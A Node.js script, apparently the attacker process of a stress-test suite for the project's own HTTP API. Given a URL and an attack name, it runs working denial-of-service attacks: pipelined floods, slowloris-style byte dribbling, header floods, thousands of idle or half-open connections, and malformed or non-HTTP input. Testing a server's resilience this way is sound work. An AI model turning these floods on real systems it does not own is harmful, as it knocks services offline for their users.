// An attacker, a process of its own: node attacker.mjs URL NAME. It attacks until it is killed, and
// says when it has begun.
import { connect } from 'node:net';

const [url, name] = process.argv.slice(2);
const { hostname, port } = new URL(url);

/** Opens a connection, and opens another whenever it is closed. Answers stay unread unless it reads. */
function keepOpen({ begin = () => undefined, reads = false, pauseMs = 5 } = {}) {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined);
  socket.on('connect', () => begin(socket));
  socket.on('close', () => setTimeout(() => keepOpen({ begin, reads, pauseMs }), pauseMs));
  if (reads) socket.resume();
  else socket.pause();
}

const times = (count, action) => Array.from({ length: count }, action);
const get = (path) => `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`;
const post = (length, headers = '') =>
  `POST /v1/parcels HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n${headers}Content-Length: ${length}\r\n\r\n`;
/** Refused: what is accepted is kept, by the broker in memory too. */
const parcel = JSON.stringify({ email: 'nobody', name: 'Ada' });
const chunked = post(0).replace('Content-Length: 0', 'Transfer-Encoding: chunked');

/** Keeps so many connections open that pipeline the same again and again, and take in all answers. */
function pipeline(connections, bytes) {
  const begin = (socket) => {
    const write = () => !socket.destroyed && socket.write(bytes, () => setTimeout(write, 1));
    write();
  };
  times(connections, () => keepOpen({ begin, reads: true }));
}

/** Asks for the next answer as soon as the last one is there. */
function askOn(connections, bytes) {
  const begin = (socket) => {
    socket.write(bytes);
    socket.on('data', (chunk) => {
      for (let at = -1; (at = chunk.indexOf('HTTP/1.1 ', at + 1)) >= 0;) socket.write(bytes);
    });
  };
  times(connections, () => keepOpen({ begin, reads: true }));
}

/** Sends a byte now and then behind what it begins with. */
const drip = (bytes) => (socket) => {
  socket.write(bytes);
  const timer = setInterval(() => socket.write('1'), 500);
  socket.once('close', () => clearInterval(timer));
};

const unread = (path) => () =>
  times(200, () => keepOpen({ begin: (socket) => socket.write(get(path).repeat(1_000)) }));

const attacks = {
  '200 connections pipeline GET /docs-json and read no answer': unread('/docs-json'),
  '200 connections pipeline GET /docs-yaml and read no answer': unread('/docs-yaml'),
  '200 connections pipeline GET /docs-json and read all answers': () =>
    pipeline(200, get('/docs-json').repeat(200)),
  '200 connections pipeline the shortest requests there are': () =>
    pipeline(200, 'GET / HTTP/1.1\r\n\r\n'.repeat(3_600)),
  '100 connections pipeline requests with bodies': () =>
    pipeline(100, (post(parcel.length) + parcel).repeat(100)),
  'one connection pipelines a thousand requests again and again': () =>
    pipeline(1, get('/health/live').repeat(1_000)),
  '500 slow readers take a byte now and then': () =>
    times(500, () => {
      const begin = (socket) => {
        socket.write(get('/docs-json').repeat(100));
        const timer = setInterval(() => socket.read(1), 500);
        socket.once('close', () => clearInterval(timer));
      };
      keepOpen({ begin });
    }),
  '500 connections send headers byte by byte': () =>
    times(500, () => keepOpen({ begin: drip(`GET / HTTP/1.1\r\nHost: a\r\nX-Slow: `) })),
  '500 connections send bodies byte by byte': () =>
    times(500, () => keepOpen({ begin: drip(`${post(200_000)}{`) })),
  '600 connections send most of a large body and no more': () =>
    times(600, () =>
      keepOpen({ begin: (socket) => socket.write(post(262_000) + ' '.repeat(261_000)) }),
    ),
  '50 connections send bodies in chunks of a byte': () =>
    pipeline(50, `${chunked}${'1\r\n \r\n'.repeat(100_000)}0\r\n\r\n`),
  '50 connections send large bodies full of empty lines': () =>
    pipeline(50, post(260_000) + '\r\n\r\n'.repeat(65_000)),
  '100 connections send thousands of headers': () =>
    askOn(100, `GET / HTTP/1.1\r\nHost: a\r\n${'a:b\r\n'.repeat(2_500)}\r\n`),
  '300 connections expect to be told to go on': () =>
    times(300, () =>
      keepOpen({ begin: (socket) => socket.write(post(1_000, 'Expect: 100-continue\r\n')) }),
    ),
  '3,000 connections are idle': () => times(3_000, () => keepOpen({ pauseMs: 2_000 })),
  '3,000 connections are idle after a request': () =>
    times(3_000, () =>
      keepOpen({
        begin: (socket) => socket.write(get('/health/live')),
        reads: true,
        pauseMs: 2_000,
      }),
    ),
  'one connection floods with requests': () => askOn(1, get('/docs-json')),
  '200 connections flood with requests': () => askOn(200, get('/docs-json')),
  '50 connections are opened and closed again and again': () =>
    times(50, () => keepOpen({ begin: (socket) => socket.destroy(), pauseMs: 0 })),
  '50 connections ask, and are reset before the answer': () =>
    times(50, () => {
      const begin = (socket) => {
        socket.write(get('/docs-json'));
        socket.resetAndDestroy();
      };
      keepOpen({ begin, pauseMs: 0 });
    }),
  '50 connections ask once and are closed': () => {
    const begin = (socket) =>
      socket.write('GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n');
    times(50, () => keepOpen({ begin, reads: true, pauseMs: 0 }));
  },
  '100 connections ask to become another protocol': () =>
    askOn(100, 'GET / HTTP/1.1\r\nHost: a\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n'),
  '100 connections ask for a tunnel': () =>
    times(100, () =>
      keepOpen({
        begin: (socket) => socket.write(`CONNECT a:1 HTTP/1.1\r\nHost: a\r\n\r\n${get('/')}`),
        pauseMs: 50,
      }),
    ),
  '100 connections send what is no HTTP': () =>
    times(100, () =>
      keepOpen({ begin: (socket) => socket.write('\x16\x03\x01'.repeat(20_000)), pauseMs: 50 }),
    ),
  '1,000 connections are left half open': () =>
    times(1_000, () =>
      keepOpen({
        begin: (socket) => socket.end('GET /docs-json HTTP/1.0\r\nConnection: keep-alive\r\n\r\n'),
      }),
    ),
};

attacks[name]();
setTimeout(() => console.log('begun'), 300);
// Sockets that are neither read nor written would not keep it alive.
setInterval(() => undefined, 60_000);
